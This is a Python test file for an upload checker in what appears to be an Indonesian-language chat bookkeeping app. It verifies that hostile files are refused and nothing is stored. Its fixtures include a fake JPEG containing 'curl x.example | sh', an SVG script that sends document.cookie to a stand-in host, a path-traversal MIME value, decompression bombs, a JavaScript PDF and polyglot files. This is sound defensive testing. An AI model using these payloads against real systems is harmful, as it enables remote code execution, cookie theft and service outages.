"""Hostile files, as an attacker or a careless user would send them: each is refused with a message naming it,
nothing is stored (no row, no file), and no path is ever made outside MEDIA_DIR. On SQLite and PostgreSQL."""

import io
import struct
import zlib
from pathlib import Path

import pytest
from PIL import Image

from services.filecheck import FileRefused, check_file
from services.media import MediaStore, record_media
from tests.handlers.conftest import world  # noqa: F401 - the conversation fixture, shared with tests/handlers
from tests.handlers.flows.bendahara import belanja_until_the_receipt, bendahara, counts, text_of
from tests.images import jpeg, pdf

ASK_RECEIPT = "Kirim satu foto nota atau kuitansi"
NOTHING = {"FundReceipt": 0, "Spending": 0, "StageReport": 0, "Media": 0, "OutboxMessage": 0}


def _png_claiming(width: int, height: int) -> bytes:
    """A few hundred bytes that say "width × height pixels": gigabytes once decoded."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = zlib.compress(b"\0" * 4096, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def _jpeg_with_comment(comment: bytes) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (16, 16), (90, 90, 90)).save(out, "JPEG", comment=comment)
    return out.getvalue()


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://x.example/"+document.cookie)</script></svg>'
# (name, content, claimed mime type, kind, the code services.filecheck gives)
HOSTILE = {
    "shell_script_as_jpeg": ("nota.jpg", b"#!/bin/sh\ncurl x.example | sh\n", "image/jpeg", "photo", "not_an_image"),
    "empty": ("kosong.jpg", b"", "image/jpeg", "document", "empty"),
    "svg_with_script": ("nota.svg", SVG, "image/svg+xml", "document", "not_pdf_or_image"),
    "svg_claiming_jpeg": ("nota.jpg", SVG, "image/jpeg", "document", "not_pdf_or_image"),
    "traversal_mime": ("nota", jpeg(1), "image/../../../x", "document", None),  # a real photo: refused by its claim
    "truncated_jpeg": ("potong.jpg", jpeg(2, (64, 64))[:-300], "image/jpeg", "photo", "not_an_image"),
    "decompression_bomb": ("bom.png", _png_claiming(40_000, 40_000), "image/png", "document", "image_too_large"),
    "moderate_bomb": ("besar.png", _png_claiming(10_000, 10_000), "image/png", "document", "image_too_large"),
    "pdf_that_is_not_one": (
        "rekening.pdf",
        b"MZ\x90\x00\x03" + b"\x00" * 64,
        "application/pdf",
        "document",
        "not_pdf_or_image",
    ),
    "pdf_that_runs_javascript": (
        "rekening.pdf",
        pdf() + b"<</S/JavaScript/JS(app.alert(1))>>",
        "application/pdf",
        "document",
        "pdf_active",
    ),
    "jpeg_pdf_polyglot": (
        "nota.jpg",
        _jpeg_with_comment(b"%PDF-1.4 1 0 obj<<>>endobj"),
        "image/jpeg",
        "document",
        "polyglot",
    ),
    "jpeg_html_polyglot": (
        "nota.jpg",
        jpeg(3) + b"<html><script>alert(1)</script></html>",
        "image/jpeg",
        "photo",
        "polyglot",
    ),
}


def _files(folder: Path) -> set[Path]:
    return {p for p in folder.rglob("*") if p.is_file() and ".db" not in p.name}


@pytest.mark.parametrize("case", list(HOSTILE))
async def test_a_hostile_file_is_refused_by_name_and_nothing_is_stored(world, tmp_path: Path, case: str) -> None:  # noqa: F811
    name, content, mime, kind, _code = HOSTILE[case]
    chat = await bendahara(world)
    await belanja_until_the_receipt(chat)
    before = _files(tmp_path.parent)
    replies = await chat.send_media((name, content, mime), kind=kind)
    if ASK_RECEIPT not in replies[-1].text:  # accepted as a reference: the bytes are looked at on Simpan
        replies = await chat.press_label("Simpan")
    said = text_of(replies[:-1])
    assert "foto" in said and ("PDF" in said or "kamera" in said), said  # what to send instead
    assert ASK_RECEIPT in replies[-1].text
    if "jpg" in name or "png" in name or "pdf" in name:
        assert name in said or "tidak bisa dipakai" in said
    assert await counts(world) == NOTHING
    assert _files(tmp_path.parent) - before == set()  # nothing written, inside MEDIA_DIR or anywhere near it


@pytest.mark.parametrize("case", [c for c, v in HOSTILE.items() if v[4]])
def test_the_content_check_gives_the_reason(case: str) -> None:
    _name, content, _mime, kind, code = HOSTILE[case]
    with pytest.raises(FileRefused) as refused:
        check_file(content, kind)
    assert refused.value.code == code


async def test_a_claimed_mime_type_never_becomes_part_of_a_path(db, tmp_path: Path) -> None:
    store = MediaStore(tmp_path / "media")
    async with db.unit_of_work() as session:
        media = await record_media(session, store, jpeg(4), kind="document", uploaded_by_id=None, rt_id=None)
    assert Path(media.path).suffix == ".jpg" and media.mime_type == "image/jpeg"
    assert store.absolute(media.path).resolve().is_relative_to((tmp_path / "media").resolve())
    assert {p.relative_to(tmp_path).parts[0] for p in _files(tmp_path)} == {"media"}


def test_real_photos_and_pdfs_pass(tmp_path: Path) -> None:
    assert check_file(jpeg(5), "photo").mime_type == "image/jpeg"
    assert check_file(pdf(), "document").mime_type == "application/pdf"
    heic = io.BytesIO()
    Image.new("RGB", (40, 30), (1, 2, 3)).save(heic, "HEIF")  # what an iPhone sends as a file
    checked = check_file(heic.getvalue(), "document")
    assert (checked.mime_type, checked.extension, checked.thumbnail is not None) == ("image/heic", ".heic", True)
